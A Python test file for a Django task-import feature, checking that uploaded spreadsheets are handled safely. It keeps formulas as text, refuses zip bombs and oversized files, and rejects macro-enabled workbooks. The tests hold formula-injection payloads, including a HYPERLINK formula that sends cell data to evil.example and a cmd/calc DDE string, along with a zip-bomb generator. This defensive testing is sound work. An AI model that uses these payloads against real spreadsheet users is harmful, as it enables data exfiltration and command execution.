"""Hostile files, refused before they are read (and never kept), each refusal saying why; formulas kept as text."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from cmcoord.imports import services
from cmcoord.imports.models import ImportBatch
from cmcoord.imports.readers import ImportRefused, open_sheet
from protection_tasks.models import Task
from tests.imports.conftest import csv_bytes, xlsx_bytes

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "=1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)"]


def upload(client, world, data, name):
    url = reverse("imports:upload", kwargs={"code": world.operation.code, "kind": "tasks"})
    return client.post(url, {"file": SimpleUploadedFile(name, data)})


def stored_files(media_root):
    return [path for path in media_root.rglob("*") if path.is_file()]


@pytest.mark.parametrize("name", ["tasks.xlsx", "tasks.csv"])
def test_formulas_are_imported_as_their_text_and_never_evaluated(world, name):
    rows = [["Title", "Activity code"]] + [[formula, "AN-1"] for formula in FORMULAS]
    data = xlsx_bytes(rows) if name.endswith(".xlsx") else csv_bytes(rows)
    batch = services.start_batch(user=world.officer, operation=world.operation, kind="tasks", file_name=name, data=data)
    preview = services.preview(batch, world.officer)
    assert [row.title for row in preview.rows] == FORMULAS  # the text of the formula, not its result ("2")
    services.run_import(batch, world.officer, only_valid=False)
    assert sorted(Task.objects.values_list("title", flat=True)) == sorted(FORMULAS)


def test_a_cached_result_in_the_workbook_is_not_what_is_read(world):
    """A workbook may carry a formula's last result beside it: the formula's text is read, never that result."""
    source = zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Title"], ["placeholder"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                begin = text.index('<c r="A2"')
                stop = text.index("</c>", begin) + len("</c>")
                cached = '<c r="A2" t="str"><f>"Liaison "&amp;"visit"</f><v>Liaison visit</v></c>'
                data = (text[:begin] + cached + text[stop:]).encode()
            target.writestr(item, data)
    sheet = open_sheet("cached.xlsx", buffer.getvalue())
    assert [cells for _n, cells in sheet.rows()] == [['="Liaison "&"visit"']]


def _bomb(size=50_000_000) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * size)
    return buffer.getvalue()


def test_a_zip_bomb_is_refused_by_its_ratio_through_the_page_and_never_kept(world, client, media_root):
    client.force_login(world.officer)
    response = upload(client, world, _bomb(), "tasks.xlsx")
    assert response.status_code == 400
    assert "refused as a possible zip bomb" in response.content.decode()
    assert not ImportBatch.objects.exists() and stored_files(media_root) == []


def test_a_workbook_that_unzips_beyond_the_limit_is_refused_whatever_its_ratio(world, client, monkeypatch):
    monkeypatch.setattr("cmcoord.imports.readers.MAX_UNZIPPED_BYTES", 20_000)
    rows = [["Title", "Activity code"]] + [[f"Visit number {n} to the sector command", "AN-1"] for n in range(300)]
    data = xlsx_bytes(rows)
    archive = zipfile.ZipFile(io.BytesIO(data))
    unzipped = sum(member.file_size for member in archive.infolist())
    assert unzipped > 20_000 and unzipped / len(data) < 100  # an ordinary ratio: refused by its size alone
    with pytest.raises(ImportRefused, match="unzips to"):
        open_sheet("tasks.xlsx", data)
    client.force_login(world.officer)
    response = upload(client, world, data, "tasks.xlsx")
    assert response.status_code == 400 and "unzips to" in response.content.decode()


@pytest.mark.parametrize("name", ["tasks.xlsm", "tasks.XLSM", "template.xltm", "addin.xlam"])
def test_macro_enabled_workbooks_are_refused_by_their_name(world, client, name):
    client.force_login(world.officer)
    response = upload(client, world, xlsx_bytes([["Title"], ["x"]]), name)
    assert response.status_code == 400 and "Macro-enabled workbooks (.xlsm) are refused" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_workbook_carrying_macros_under_an_xlsx_name_is_refused(world, client):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, zipfile.ZipFile(io.BytesIO(xlsx_bytes([["Title"]]))) as source:
        for item in source.infolist():
            archive.writestr(item, source.read(item))
        archive.writestr("xl/vbaProject.bin", b"macro")
    client.force_login(world.officer)
    response = upload(client, world, buffer.getvalue(), "innocent.xlsx")
    assert response.status_code == 400 and "Macro-enabled" in response.content.decode()


def test_a_file_over_the_upload_limit_never_reaches_the_disk(world, client, settings, tmp_path, media_root):
    settings.IMPORT_MAX_MB = 0.05
    settings.FILE_UPLOAD_MAX_MEMORY_SIZE = 0  # any file Django kept would go to a temporary file on disk
    settings.FILE_UPLOAD_TEMP_DIR = str(tmp_path / "uploads")
    (tmp_path / "uploads").mkdir()
    client.force_login(world.officer)
    response = upload(client, world, b"Title\n" + b"Patrol\n" * 20_000, "tasks.csv")
    assert response.status_code == 400
    assert "is larger than 51.2" in response.content.decode() and "it was not stored" in response.content.decode()
    assert list((tmp_path / "uploads").iterdir()) == []
    assert not ImportBatch.objects.exists() and stored_files(media_root) == []
